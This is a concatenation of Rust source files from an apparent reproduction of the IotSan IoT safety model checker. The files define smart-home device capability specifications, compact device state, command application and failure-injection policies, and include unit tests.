        assert_eq!(p.modes_for(DeviceId(0)), vec![FailureMode::None]);
        assert!(!p.any_failures());
    }

    #[test]
    fn policy_exhaustive_enumerates_all_modes() {
        let p = FailurePolicy::Exhaustive;
        assert_eq!(p.modes_for(DeviceId(7)).len(), 3);
        assert!(p.any_failures());
    }

    #[test]
    fn policy_only_devices_is_targeted() {
        let p = FailurePolicy::OnlyDevices(vec![DeviceId(2)]);
        assert_eq!(p.modes_for(DeviceId(2)).len(), 3);
        assert_eq!(p.modes_for(DeviceId(3)), vec![FailureMode::None]);
    }

    #[test]
    fn stats_accumulate() {
        let mut s = FailureStats::default();
        s.record(FailureMode::None);
        s.record(FailureMode::DeviceOffline);
        s.record(FailureMode::CommunicationLost);
        s.record(FailureMode::CommunicationLost);
        assert_eq!(s.device_offline, 1);
        assert_eq!(s.communication_lost, 2);
        assert_eq!(s.total(), 3);
    }

    #[test]
    fn display_labels() {
        assert_eq!(FailureMode::None.to_string(), "ok");
        assert_eq!(FailureMode::DeviceOffline.to_string(), "device-offline");
        assert_eq!(FailureMode::CommunicationLost.to_string(), "comm-lost");
    }
}
