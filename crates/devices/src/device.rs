//! Device instances and their runtime state.
//!
//! A [`Device`] is one concrete, installed device (e.g. "the motion sensor in
//! the living room") of a given capability; a [`DeviceState`] is its current
//! attribute valuation, stored compactly as domain indices so the model
//! checker can hash entire system states cheaply.

use crate::capability::{registry, AttrDomain, CommandEffect, DeviceKind, DeviceSpec};
use iotsan_ir::Value;
use std::fmt;

/// Identifier of an installed device (index into the system's device table).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct DeviceId(pub u32);

impl fmt::Display for DeviceId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "dev{}", self.0)
    }
}

/// An installed device: a label chosen by the user plus its capability.
#[derive(Debug, Clone, PartialEq)]
pub struct Device {
    /// System-wide identifier.
    pub id: DeviceId,
    /// User-facing label, e.g. `livRoomMotion`, `myHeaterOutlet`.
    pub label: String,
    /// Capability name; resolves to a [`DeviceSpec`] through the registry.
    pub capability: String,
}

impl Device {
    /// Creates a device.
    pub fn new(id: DeviceId, label: impl Into<String>, capability: impl Into<String>) -> Self {
        Device { id, label: label.into(), capability: capability.into() }
    }

    /// The specification for this device's capability (falls back to `switch`
    /// for unknown capabilities so that translation never wedges).
    pub fn spec(&self) -> &'static DeviceSpec {
        registry().spec_or_switch(&self.capability)
    }

    /// True when the device can generate physical events.
    pub fn is_sensor(&self) -> bool {
        matches!(self.spec().kind, DeviceKind::Sensor | DeviceKind::Hybrid)
    }

    /// True when the device accepts commands.
    pub fn is_actuator(&self) -> bool {
        matches!(self.spec().kind, DeviceKind::Actuator | DeviceKind::Hybrid)
    }

    /// The initial state for this device.
    pub fn initial_state(&self) -> DeviceState {
        DeviceState::initial(self.spec())
    }
}

/// The result of applying a command to a device.
#[derive(Debug, Clone, PartialEq)]
pub enum CommandOutcome {
    /// The command changed at least one attribute; the new values are the
    /// `(attribute, value)` pairs listed.
    Changed(Vec<(String, Value)>),
    /// The command was valid but left the state unchanged (e.g. `on()` when
    /// already on) — relevant for the *repeated commands* property.
    NoChange,
    /// The device's capability does not support this command.
    Unsupported,
    /// The device is offline (failure injection); the command was lost.
    Offline,
}

/// Upper bound on attributes per device spec (the registry's richest device,
/// the thermostat, has 4; the inline array leaves headroom).
pub const MAX_DEVICE_ATTRS: usize = 8;

/// Current attribute valuation of one device.
///
/// Values are stored as indices into each attribute's finite domain, plus an
/// `online` flag used for device/communication failure injection (§8).  The
/// indices live in a fixed inline array (specs are bounded by
/// [`MAX_DEVICE_ATTRS`]), so `DeviceState` is `Copy`: cloning a whole
/// [`Vec<DeviceState>`] system state is one memcpy instead of one heap
/// allocation per device — the model checker clones a state per transition.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct DeviceState {
    values: [u8; MAX_DEVICE_ATTRS],
    len: u8,
    online: bool,
}

impl DeviceState {
    /// The initial state per the specification defaults.
    pub fn initial(spec: &DeviceSpec) -> Self {
        assert!(
            spec.attributes.len() <= MAX_DEVICE_ATTRS,
            "device spec {} exceeds MAX_DEVICE_ATTRS",
            spec.capability
        );
        let mut values = [0u8; MAX_DEVICE_ATTRS];
        for (i, a) in spec.attributes.iter().enumerate() {
            values[i] = a.default_index as u8;
        }
        DeviceState { values, len: spec.attributes.len() as u8, online: true }
    }

    /// Whether the device is currently online.
    pub fn is_online(&self) -> bool {
        self.online
    }

    /// Marks the device online or offline.
    pub fn set_online(&mut self, online: bool) {
        self.online = online;
    }

    /// Raw domain index of an attribute (by position).
    pub fn raw(&self, index: usize) -> Option<u8> {
        self.values[..self.len as usize].get(index).copied()
    }

    /// The current value of `attribute` as an [`Value`].
    pub fn get(&self, spec: &DeviceSpec, attribute: &str) -> Value {
        let Some(idx) = spec.attribute_index(attribute) else { return Value::Null };
        let attr = &spec.attributes[idx];
        let value_index = self.values[idx] as usize;
        match &attr.domain {
            AttrDomain::Enum(names) => {
                names.get(value_index).map(|s| Value::Str(s.to_string())).unwrap_or(Value::Null)
            }
            AttrDomain::Numeric(values) => {
                values.get(value_index).map(|v| Value::Int(*v)).unwrap_or(Value::Null)
            }
        }
    }

    /// Writes the current value of the attribute at position `index` into
    /// `out`, reusing `out`'s string allocation when possible.  This is the
    /// snapshot-refresh path: the model generator rebuilds a physical-state
    /// snapshot on every explored transition, and cloning a fresh `String`
    /// per attribute there dominated the property-check cost.
    pub fn value_at_into(&self, spec: &DeviceSpec, index: usize, out: &mut Value) {
        let Some(attr) = spec.attributes.get(index) else {
            *out = Value::Null;
            return;
        };
        let value_index = self.values[index] as usize;
        match &attr.domain {
            AttrDomain::Enum(names) => match names.get(value_index) {
                Some(name) => match out {
                    Value::Str(s) => {
                        s.clear();
                        s.push_str(name);
                    }
                    _ => *out = Value::Str((*name).to_string()),
                },
                None => *out = Value::Null,
            },
            AttrDomain::Numeric(values) => {
                *out = values.get(value_index).map(|v| Value::Int(*v)).unwrap_or(Value::Null);
            }
        }
    }

    /// Sets `attribute` to the domain value at `value_index`; returns `true`
    /// when the state actually changed.
    pub fn set_index(&mut self, spec: &DeviceSpec, attribute: &str, value_index: usize) -> bool {
        let Some(idx) = spec.attribute_index(attribute) else { return false };
        self.set_index_at(spec, idx, value_index)
    }

    /// [`DeviceState::set_index`] addressed by attribute position (the model
    /// generator's form: its actions carry the position, so the hot loop
    /// skips the name lookup).
    pub fn set_index_at(
        &mut self,
        spec: &DeviceSpec,
        attr_index: usize,
        value_index: usize,
    ) -> bool {
        if attr_index >= spec.attributes.len()
            || value_index >= spec.attributes[attr_index].domain.len()
        {
            return false;
        }
        let changed = self.values[attr_index] != value_index as u8;
        self.values[attr_index] = value_index as u8;
        changed
    }

    /// Sets `attribute` to the given value (string or numeric), snapping
    /// numeric values to the nearest domain level.  Returns `true` when the
    /// state changed, `false` when it was already equal or the value/attribute
    /// is unknown.
    pub fn set(&mut self, spec: &DeviceSpec, attribute: &str, value: &Value) -> bool {
        let Some(idx) = spec.attribute_index(attribute) else { return false };
        let attr = &spec.attributes[idx];
        let target = match &attr.domain {
            AttrDomain::Enum(_) => attr.domain.index_of(&value.as_string()),
            AttrDomain::Numeric(levels) => value.as_number().map(|n| nearest_index(levels, n)),
        };
        match target {
            Some(value_index) => {
                let changed = self.values[idx] != value_index as u8;
                self.values[idx] = value_index as u8;
                changed
            }
            None => false,
        }
    }

    /// Applies an actuator command (with already-evaluated arguments).
    pub fn apply_command(
        &mut self,
        spec: &DeviceSpec,
        command: &str,
        args: &[Value],
    ) -> CommandOutcome {
        if !self.online {
            return CommandOutcome::Offline;
        }
        let Some(cmd) = spec.command(command) else { return CommandOutcome::Unsupported };
        let mut changes = Vec::new();
        for effect in &cmd.effects {
            match effect {
                CommandEffect::Set { attribute, value } => {
                    if self.set(spec, attribute, &Value::Str(value.to_string())) {
                        changes.push((attribute.to_string(), self.get(spec, attribute)));
                    }
                }
                CommandEffect::SetFromArg { attribute } => {
                    if let Some(arg) = args.first() {
                        if self.set(spec, attribute, arg) {
                            changes.push((attribute.to_string(), self.get(spec, attribute)));
                        }
                    }
                }
            }
        }
        if changes.is_empty() {
            CommandOutcome::NoChange
        } else {
            CommandOutcome::Changed(changes)
        }
    }

    /// Serializes the state into bytes for hashing by the model checker: the
    /// attribute indices followed by the online flag.
    pub fn encode_into(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(&self.values[..self.len as usize]);
        out.push(self.online as u8);
    }
}

/// The index of the domain level nearest to `value`.
fn nearest_index(levels: &[i64], value: f64) -> usize {
    let mut best = 0;
    let mut best_dist = f64::INFINITY;
    for (i, level) in levels.iter().enumerate() {
        let dist = (*level as f64 - value).abs();
        if dist < best_dist {
            best = i;
            best_dist = dist;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lock_device() -> Device {
        Device::new(DeviceId(0), "frontDoorLock", "lock")
    }

    #[test]
    fn device_classification() {
        let lock = lock_device();
        assert!(lock.is_actuator());
        assert!(!lock.is_sensor());
        let motion = Device::new(DeviceId(1), "hallMotion", "motionSensor");
        assert!(motion.is_sensor());
        assert!(!motion.is_actuator());
        let thermostat = Device::new(DeviceId(2), "nest", "thermostat");
        assert!(thermostat.is_sensor() && thermostat.is_actuator());
    }

    #[test]
    fn initial_state_uses_defaults() {
        let lock = lock_device();
        let state = lock.initial_state();
        assert_eq!(state.get(lock.spec(), "lock"), Value::Str("locked".into()));
        assert!(state.is_online());
    }

    #[test]
    fn apply_command_changes_state_once() {
        let lock = lock_device();
        let spec = lock.spec();
        let mut state = lock.initial_state();
        let outcome = state.apply_command(spec, "unlock", &[]);
        assert!(matches!(outcome, CommandOutcome::Changed(ref c) if c[0].0 == "lock"));
        assert_eq!(state.get(spec, "lock"), Value::Str("unlocked".into()));
        // Re-issuing the same command is a no-op (repeated command).
        assert_eq!(state.apply_command(spec, "unlock", &[]), CommandOutcome::NoChange);
    }

    #[test]
    fn unsupported_and_offline_commands() {
        let lock = lock_device();
        let spec = lock.spec();
        let mut state = lock.initial_state();
        assert_eq!(state.apply_command(spec, "explode", &[]), CommandOutcome::Unsupported);
        state.set_online(false);
        assert_eq!(state.apply_command(spec, "unlock", &[]), CommandOutcome::Offline);
        // State unchanged while offline.
        assert_eq!(state.get(spec, "lock"), Value::Str("locked".into()));
    }

    #[test]
    fn numeric_set_snaps_to_domain() {
        let dimmer = Device::new(DeviceId(3), "bedroom", "switchLevel");
        let spec = dimmer.spec();
        let mut state = dimmer.initial_state();
        let outcome = state.apply_command(spec, "setLevel", &[Value::Int(47)]);
        assert!(matches!(outcome, CommandOutcome::Changed(_)));
        // 47 snaps to the nearest discretized level, 50.
        assert_eq!(state.get(spec, "level"), Value::Int(50));
        // setLevel also turns the switch on.
        assert_eq!(state.get(spec, "switch"), Value::Str("on".into()));
    }

    #[test]
    fn set_rejects_unknown_values() {
        let lock = lock_device();
        let spec = lock.spec();
        let mut state = lock.initial_state();
        assert!(!state.set(spec, "lock", &Value::Str("ajar".into())));
        assert!(!state.set(spec, "nonexistent", &Value::Str("x".into())));
    }

    #[test]
    fn encode_includes_online_flag() {
        let lock = lock_device();
        let mut state = lock.initial_state();
        let mut a = Vec::new();
        state.encode_into(&mut a);
        state.set_online(false);
        let mut b = Vec::new();
        state.encode_into(&mut b);
        assert_ne!(a, b);
        assert_eq!(a.len(), b.len());
    }

    #[test]
    fn unknown_capability_falls_back_to_switch() {
        let exotic = Device::new(DeviceId(9), "weird", "quantumFluxCapacitor");
        assert_eq!(exotic.spec().capability, "switch");
    }
}
