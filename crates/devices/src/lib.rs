//! # iotsan-devices
//!
//! IoT device models for IotSan-rs (the Rust reproduction of *IotSan:
//! Fortifying the Safety of IoT Systems*, CoNEXT 2018, §8).
//!
//! The paper's Model Generator models every IoT device "as per their
//! specifications" with an event queue and a set of notifiers; it supports 30
//! device types and injects device/communication failures.  This crate is
//! that substrate:
//!
//! * [`capability`] — 30+ device-type specifications: attributes with finite
//!   (discretized) value domains, actuator commands and their effects, and
//!   the physical-event alphabet of each sensor;
//! * [`device`] — installed devices and their compact, hashable runtime state;
//! * [`event`] — cyber events and the pending-event queue of Algorithm 1;
//! * [`failure`] — device-offline and communication-loss injection policies;
//! * [`environment`] — location modes, sunrise/sunset and modelled system
//!   time.
//!
//! ```
//! use iotsan_devices::{Device, DeviceId, CommandOutcome};
//! use iotsan_ir::Value;
//!
//! let lock = Device::new(DeviceId(0), "frontDoor", "lock");
//! let mut state = lock.initial_state();
//! assert_eq!(state.get(lock.spec(), "lock"), Value::Str("locked".into()));
//! let outcome = state.apply_command(lock.spec(), "unlock", &[]);
//! assert!(matches!(outcome, CommandOutcome::Changed(_)));
//! ```

#![warn(missing_docs)]

pub mod capability;
pub mod device;
pub mod environment;
pub mod event;
pub mod failure;

pub use capability::{
    registry, AttrDomain, AttributeSpec, CapabilityRegistry, CommandEffect, CommandSpec,
    DeviceKind, DeviceSpec,
};
pub use device::{CommandOutcome, Device, DeviceId, DeviceState};
pub use environment::{EnvironmentEvent, LocationMode, SystemTime};
pub use event::{Event, EventQueue, EventSource};
pub use failure::{FailureMode, FailurePolicy, FailureStats};
