//! Device capability specifications.
//!
//! The paper's Model Generator (§8) models IoT devices "as per their
//! specifications" and currently supports 30 different device types.  A
//! [`DeviceSpec`] describes one such type: the attributes it exposes (with
//! finite, discretized value domains so the model checker's state space stays
//! bounded), the commands actuators accept and their effects on attributes,
//! and which attribute changes can be generated spontaneously by the physical
//! environment (sensor events).

use std::collections::BTreeMap;
use std::sync::OnceLock;

/// The value domain of a device attribute.
///
/// Numeric attributes are discretized into a small set of representative
/// values; the paper's Spin models do the same implicitly by letting the
/// checker enumerate event permutations over a finite value universe.
#[derive(Debug, Clone, PartialEq)]
pub enum AttrDomain {
    /// A finite set of named states (`"on"`/`"off"`, `"locked"`/`"unlocked"`).
    Enum(Vec<&'static str>),
    /// A finite set of representative numeric levels.
    Numeric(Vec<i64>),
}

impl AttrDomain {
    /// Number of distinct values in the domain.
    pub fn len(&self) -> usize {
        match self {
            AttrDomain::Enum(v) => v.len(),
            AttrDomain::Numeric(v) => v.len(),
        }
    }

    /// True when the domain is empty (never the case for built-in specs).
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// The index of `value` in this domain, if present.
    pub fn index_of(&self, value: &str) -> Option<usize> {
        match self {
            AttrDomain::Enum(names) => names.iter().position(|n| *n == value),
            AttrDomain::Numeric(values) => {
                let needle: f64 = value.trim().parse().ok()?;
                values.iter().position(|v| (*v as f64 - needle).abs() < 1e-9)
            }
        }
    }

    /// The value at `index`, rendered as a string.
    pub fn value_at(&self, index: usize) -> Option<String> {
        match self {
            AttrDomain::Enum(names) => names.get(index).map(|s| s.to_string()),
            AttrDomain::Numeric(values) => values.get(index).map(|v| v.to_string()),
        }
    }

    /// The numeric value at `index` (enum domains have no numeric view).
    pub fn numeric_at(&self, index: usize) -> Option<i64> {
        match self {
            AttrDomain::Numeric(values) => values.get(index).copied(),
            AttrDomain::Enum(_) => None,
        }
    }
}

/// A single attribute of a device type.
#[derive(Debug, Clone, PartialEq)]
pub struct AttributeSpec {
    /// Attribute name (SmartThings style, e.g. `switch`, `temperature`).
    pub name: &'static str,
    /// Value domain.
    pub domain: AttrDomain,
    /// Index (into the domain) of the initial value.
    pub default_index: usize,
    /// True when the physical environment can change this attribute
    /// spontaneously (i.e. the device acts as a sensor for it).
    pub environment_driven: bool,
}

/// The effect of an actuator command on device attributes.
#[derive(Debug, Clone, PartialEq)]
pub enum CommandEffect {
    /// Set an attribute to a fixed enum value (`on()` → `switch = "on"`).
    Set {
        /// Attribute name.
        attribute: &'static str,
        /// New value (must be in the attribute's domain).
        value: &'static str,
    },
    /// Set a numeric attribute from the command's first argument
    /// (`setLevel(50)`, `setHeatingSetpoint(70)`), clamped to the nearest
    /// value in the discretized domain.
    SetFromArg {
        /// Attribute name.
        attribute: &'static str,
    },
}

/// A command an actuator accepts.
#[derive(Debug, Clone, PartialEq)]
pub struct CommandSpec {
    /// Command name as called from Groovy (`on`, `off`, `lock`, `setLevel`).
    pub name: &'static str,
    /// What the command does to the device state.
    pub effects: Vec<CommandEffect>,
}

/// Whether a device type is primarily a sensor, an actuator, or both.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DeviceKind {
    /// Produces events only (motion sensor, contact sensor).
    Sensor,
    /// Accepts commands; its state changes also generate events (lock, outlet).
    Actuator,
    /// Both senses and actuates (thermostat).
    Hybrid,
}

/// A device type specification.
#[derive(Debug, Clone, PartialEq)]
pub struct DeviceSpec {
    /// The SmartThings capability used in `preferences` (`capability.<this>`).
    pub capability: &'static str,
    /// Human-readable name.
    pub display: &'static str,
    /// Sensor / actuator / hybrid.
    pub kind: DeviceKind,
    /// Attributes in declaration order (the order defines the state-vector
    /// layout used by the model checker).
    pub attributes: Vec<AttributeSpec>,
    /// Commands (empty for pure sensors).
    pub commands: Vec<CommandSpec>,
}

impl DeviceSpec {
    /// Finds an attribute by name.
    pub fn attribute(&self, name: &str) -> Option<&AttributeSpec> {
        self.attributes.iter().find(|a| a.name == name)
    }

    /// Index of an attribute in the state vector.
    pub fn attribute_index(&self, name: &str) -> Option<usize> {
        self.attributes.iter().position(|a| a.name == name)
    }

    /// Finds a command by name.
    pub fn command(&self, name: &str) -> Option<&CommandSpec> {
        self.commands.iter().find(|c| c.name == name)
    }

    /// The primary attribute: the first one, which by convention carries the
    /// device's headline state (`switch`, `lock`, `motion`, ...).
    pub fn primary_attribute(&self) -> &AttributeSpec {
        &self.attributes[0]
    }

    /// All `(attribute, value-index)` pairs the environment can spontaneously
    /// produce for this device — the physical-event alphabet of a sensor.
    pub fn environment_events(&self) -> Vec<(&'static str, usize)> {
        let mut out = Vec::new();
        for attr in &self.attributes {
            if attr.environment_driven {
                for idx in 0..attr.domain.len() {
                    out.push((attr.name, idx));
                }
            }
        }
        out
    }
}

fn attr(
    name: &'static str,
    domain: AttrDomain,
    default_index: usize,
    environment_driven: bool,
) -> AttributeSpec {
    AttributeSpec { name, domain, default_index, environment_driven }
}

fn set(attribute: &'static str, value: &'static str) -> CommandEffect {
    CommandEffect::Set { attribute, value }
}

fn cmd(name: &'static str, effects: Vec<CommandEffect>) -> CommandSpec {
    CommandSpec { name, effects }
}

/// Builds the registry of built-in device specifications (30+ types,
/// mirroring the paper's "currently, we support 30 different IoT devices").
pub fn builtin_specs() -> Vec<DeviceSpec> {
    use AttrDomain::{Enum, Numeric};
    use DeviceKind::{Actuator, Hybrid, Sensor};

    let onoff = || Enum(vec!["off", "on"]);
    let temp_domain = || Numeric(vec![30, 50, 60, 68, 75, 85, 95]);

    vec![
        // 1. Smart power outlet / switch.
        DeviceSpec {
            capability: "switch",
            display: "Smart Switch / Outlet",
            kind: Actuator,
            attributes: vec![attr("switch", onoff(), 0, false)],
            commands: vec![
                cmd("on", vec![set("switch", "on")]),
                cmd("off", vec![set("switch", "off")]),
            ],
        },
        // 2. Dimmable light.
        DeviceSpec {
            capability: "switchLevel",
            display: "Dimmer",
            kind: Actuator,
            attributes: vec![
                attr("switch", onoff(), 0, false),
                attr("level", Numeric(vec![0, 10, 30, 50, 70, 100]), 0, false),
            ],
            commands: vec![
                cmd("on", vec![set("switch", "on")]),
                cmd("off", vec![set("switch", "off")]),
                cmd(
                    "setLevel",
                    vec![CommandEffect::SetFromArg { attribute: "level" }, set("switch", "on")],
                ),
            ],
        },
        // 3. Door lock.
        DeviceSpec {
            capability: "lock",
            display: "Door Lock",
            kind: Actuator,
            attributes: vec![attr("lock", Enum(vec!["locked", "unlocked"]), 0, false)],
            commands: vec![
                cmd("lock", vec![set("lock", "locked")]),
                cmd("unlock", vec![set("lock", "unlocked")]),
            ],
        },
        // 4. Door control (garage door opener).
        DeviceSpec {
            capability: "doorControl",
            display: "Door Control",
            kind: Actuator,
            attributes: vec![attr("door", Enum(vec!["closed", "open"]), 0, false)],
            commands: vec![
                cmd("open", vec![set("door", "open")]),
                cmd("close", vec![set("door", "closed")]),
            ],
        },
        // 5. Garage door control (alias capability used by some apps).
        DeviceSpec {
            capability: "garageDoorControl",
            display: "Garage Door",
            kind: Actuator,
            attributes: vec![attr("door", Enum(vec!["closed", "open"]), 0, false)],
            commands: vec![
                cmd("open", vec![set("door", "open")]),
                cmd("close", vec![set("door", "closed")]),
            ],
        },
        // 6. Contact sensor.
        DeviceSpec {
            capability: "contactSensor",
            display: "Contact Sensor",
            kind: Sensor,
            attributes: vec![attr("contact", Enum(vec!["closed", "open"]), 0, true)],
            commands: vec![],
        },
        // 7. Motion sensor.
        DeviceSpec {
            capability: "motionSensor",
            display: "Motion Sensor",
            kind: Sensor,
            attributes: vec![attr("motion", Enum(vec!["inactive", "active"]), 0, true)],
            commands: vec![],
        },
        // 8. Presence sensor.
        DeviceSpec {
            capability: "presenceSensor",
            display: "Presence Sensor",
            kind: Sensor,
            attributes: vec![attr("presence", Enum(vec!["present", "not present"]), 0, true)],
            commands: vec![],
        },
        // 9. Temperature measurement.
        DeviceSpec {
            capability: "temperatureMeasurement",
            display: "Temperature Sensor",
            kind: Sensor,
            attributes: vec![attr("temperature", temp_domain(), 3, true)],
            commands: vec![],
        },
        // 10. Thermostat.
        DeviceSpec {
            capability: "thermostat",
            display: "Thermostat",
            kind: Hybrid,
            attributes: vec![
                attr("temperature", temp_domain(), 3, true),
                attr("thermostatMode", Enum(vec!["off", "heat", "cool", "auto"]), 0, false),
                attr("heatingSetpoint", Numeric(vec![50, 60, 68, 72, 78]), 2, false),
                attr("coolingSetpoint", Numeric(vec![60, 68, 72, 78, 85]), 3, false),
            ],
            commands: vec![
                cmd(
                    "setHeatingSetpoint",
                    vec![CommandEffect::SetFromArg { attribute: "heatingSetpoint" }],
                ),
                cmd(
                    "setCoolingSetpoint",
                    vec![CommandEffect::SetFromArg { attribute: "coolingSetpoint" }],
                ),
                cmd("heat", vec![set("thermostatMode", "heat")]),
                cmd("cool", vec![set("thermostatMode", "cool")]),
                cmd("auto", vec![set("thermostatMode", "auto")]),
                cmd("off", vec![set("thermostatMode", "off")]),
            ],
        },
        // 11. Smoke detector.
        DeviceSpec {
            capability: "smokeDetector",
            display: "Smoke Detector",
            kind: Sensor,
            attributes: vec![attr("smoke", Enum(vec!["clear", "detected", "tested"]), 0, true)],
            commands: vec![],
        },
        // 12. Carbon monoxide detector.
        DeviceSpec {
            capability: "carbonMonoxideDetector",
            display: "CO Detector",
            kind: Sensor,
            attributes: vec![attr(
                "carbonMonoxide",
                Enum(vec!["clear", "detected", "tested"]),
                0,
                true,
            )],
            commands: vec![],
        },
        // 13. Water / leak sensor.
        DeviceSpec {
            capability: "waterSensor",
            display: "Water Leak Sensor",
            kind: Sensor,
            attributes: vec![attr("water", Enum(vec!["dry", "wet"]), 0, true)],
            commands: vec![],
        },
        // 14. Valve (water main shutoff).
        DeviceSpec {
            capability: "valve",
            display: "Water Valve",
            kind: Actuator,
            attributes: vec![attr("valve", Enum(vec!["open", "closed"]), 0, false)],
            commands: vec![
                cmd("open", vec![set("valve", "open")]),
                cmd("close", vec![set("valve", "closed")]),
            ],
        },
        // 15. Alarm (siren / strobe).
        DeviceSpec {
            capability: "alarm",
            display: "Alarm",
            kind: Actuator,
            attributes: vec![attr("alarm", Enum(vec!["off", "siren", "strobe", "both"]), 0, false)],
            commands: vec![
                cmd("siren", vec![set("alarm", "siren")]),
                cmd("strobe", vec![set("alarm", "strobe")]),
                cmd("both", vec![set("alarm", "both")]),
                cmd("off", vec![set("alarm", "off")]),
            ],
        },
        // 16. Illuminance measurement.
        DeviceSpec {
            capability: "illuminanceMeasurement",
            display: "Illuminance Sensor",
            kind: Sensor,
            attributes: vec![attr(
                "illuminance",
                Numeric(vec![0, 10, 30, 100, 500, 1000]),
                3,
                true,
            )],
            commands: vec![],
        },
        // 17. Relative humidity measurement.
        DeviceSpec {
            capability: "relativeHumidityMeasurement",
            display: "Humidity Sensor",
            kind: Sensor,
            attributes: vec![attr("humidity", Numeric(vec![10, 30, 50, 70, 90]), 2, true)],
            commands: vec![],
        },
        // 18. Acceleration sensor.
        DeviceSpec {
            capability: "accelerationSensor",
            display: "Acceleration Sensor",
            kind: Sensor,
            attributes: vec![attr("acceleration", Enum(vec!["inactive", "active"]), 0, true)],
            commands: vec![],
        },
        // 19. Button.
        DeviceSpec {
            capability: "button",
            display: "Button",
            kind: Sensor,
            attributes: vec![attr("button", Enum(vec!["released", "pushed", "held"]), 0, true)],
            commands: vec![],
        },
        // 20. Sleep sensor.
        DeviceSpec {
            capability: "sleepSensor",
            display: "Sleep Sensor",
            kind: Sensor,
            attributes: vec![attr("sleeping", Enum(vec!["not sleeping", "sleeping"]), 0, true)],
            commands: vec![],
        },
        // 21. Battery.
        DeviceSpec {
            capability: "battery",
            display: "Battery",
            kind: Sensor,
            attributes: vec![attr("battery", Numeric(vec![0, 5, 20, 50, 100]), 4, true)],
            commands: vec![],
        },
        // 22. Power meter.
        DeviceSpec {
            capability: "powerMeter",
            display: "Power Meter",
            kind: Sensor,
            attributes: vec![attr("power", Numeric(vec![0, 10, 100, 500, 1500]), 0, true)],
            commands: vec![],
        },
        // 23. Energy meter.
        DeviceSpec {
            capability: "energyMeter",
            display: "Energy Meter",
            kind: Sensor,
            attributes: vec![attr("energy", Numeric(vec![0, 1, 5, 10, 50]), 0, true)],
            commands: vec![],
        },
        // 24. Water / soil moisture sensor (sprinkler systems).
        DeviceSpec {
            capability: "soilMoisture",
            display: "Soil Moisture Sensor",
            kind: Sensor,
            attributes: vec![attr("moisture", Numeric(vec![0, 20, 40, 60, 80]), 2, true)],
            commands: vec![],
        },
        // 25. Sprinkler / irrigation controller.
        DeviceSpec {
            capability: "sprinkler",
            display: "Sprinkler",
            kind: Actuator,
            attributes: vec![attr("sprinkler", onoff(), 0, false)],
            commands: vec![
                cmd("on", vec![set("sprinkler", "on")]),
                cmd("off", vec![set("sprinkler", "off")]),
            ],
        },
        // 26. Window shade.
        DeviceSpec {
            capability: "windowShade",
            display: "Window Shade",
            kind: Actuator,
            attributes: vec![attr(
                "windowShade",
                Enum(vec!["closed", "open", "partially open"]),
                0,
                false,
            )],
            commands: vec![
                cmd("open", vec![set("windowShade", "open")]),
                cmd("close", vec![set("windowShade", "closed")]),
                cmd("presetPosition", vec![set("windowShade", "partially open")]),
            ],
        },
        // 27. Fan (ceiling fan speed control, modelled as on/off + level).
        DeviceSpec {
            capability: "fanControl",
            display: "Fan",
            kind: Actuator,
            attributes: vec![
                attr("switch", onoff(), 0, false),
                attr("fanSpeed", Numeric(vec![0, 1, 2, 3]), 0, false),
            ],
            commands: vec![
                cmd("on", vec![set("switch", "on")]),
                cmd("off", vec![set("switch", "off")]),
                cmd(
                    "setFanSpeed",
                    vec![CommandEffect::SetFromArg { attribute: "fanSpeed" }, set("switch", "on")],
                ),
            ],
        },
        // 28. Camera (image capture).
        DeviceSpec {
            capability: "imageCapture",
            display: "Camera",
            kind: Actuator,
            attributes: vec![attr("image", Enum(vec!["idle", "captured"]), 0, false)],
            commands: vec![cmd("take", vec![set("image", "captured")])],
        },
        // 29. Music player / speaker (used for alarms and notifications).
        DeviceSpec {
            capability: "musicPlayer",
            display: "Speaker",
            kind: Actuator,
            attributes: vec![
                attr("status", Enum(vec!["stopped", "playing", "paused"]), 0, false),
                attr("mute", Enum(vec!["unmuted", "muted"]), 0, false),
            ],
            commands: vec![
                cmd("play", vec![set("status", "playing")]),
                cmd("stop", vec![set("status", "stopped")]),
                cmd("pause", vec![set("status", "paused")]),
                cmd("mute", vec![set("mute", "muted")]),
                cmd("unmute", vec![set("mute", "unmuted")]),
                cmd("playText", vec![set("status", "playing")]),
                cmd("playTrack", vec![set("status", "playing")]),
            ],
        },
        // 30. Switch with colour control (smart bulb).
        DeviceSpec {
            capability: "colorControl",
            display: "Color Bulb",
            kind: Actuator,
            attributes: vec![
                attr("switch", onoff(), 0, false),
                attr("hue", Numeric(vec![0, 25, 50, 75, 100]), 0, false),
            ],
            commands: vec![
                cmd("on", vec![set("switch", "on")]),
                cmd("off", vec![set("switch", "off")]),
                cmd("setHue", vec![CommandEffect::SetFromArg { attribute: "hue" }]),
                cmd("setColor", vec![set("switch", "on")]),
            ],
        },
        // 31. Momentary push (virtual buttons used by several market apps).
        DeviceSpec {
            capability: "momentary",
            display: "Momentary Switch",
            kind: Actuator,
            attributes: vec![attr("switch", onoff(), 0, false)],
            commands: vec![
                cmd("push", vec![set("switch", "on")]),
                cmd("off", vec![set("switch", "off")]),
            ],
        },
        // 32. Lock-only keypad (reports codes; modelled as a sensor).
        DeviceSpec {
            capability: "lockCodes",
            display: "Keypad",
            kind: Sensor,
            attributes: vec![attr("codeEntered", Enum(vec!["none", "valid", "invalid"]), 0, true)],
            commands: vec![],
        },
    ]
}

/// The global capability registry (built once, never mutated).
pub fn registry() -> &'static CapabilityRegistry {
    static REGISTRY: OnceLock<CapabilityRegistry> = OnceLock::new();
    REGISTRY.get_or_init(CapabilityRegistry::with_builtins)
}

/// A lookup table from capability name to [`DeviceSpec`].
#[derive(Debug, Clone)]
pub struct CapabilityRegistry {
    specs: Vec<DeviceSpec>,
    by_capability: BTreeMap<&'static str, usize>,
}

impl CapabilityRegistry {
    /// Creates a registry containing the built-in specifications.
    pub fn with_builtins() -> Self {
        let specs = builtin_specs();
        let by_capability = specs.iter().enumerate().map(|(i, s)| (s.capability, i)).collect();
        CapabilityRegistry { specs, by_capability }
    }

    /// Number of device types known.
    pub fn len(&self) -> usize {
        self.specs.len()
    }

    /// True when the registry is empty (never for the built-in registry).
    pub fn is_empty(&self) -> bool {
        self.specs.is_empty()
    }

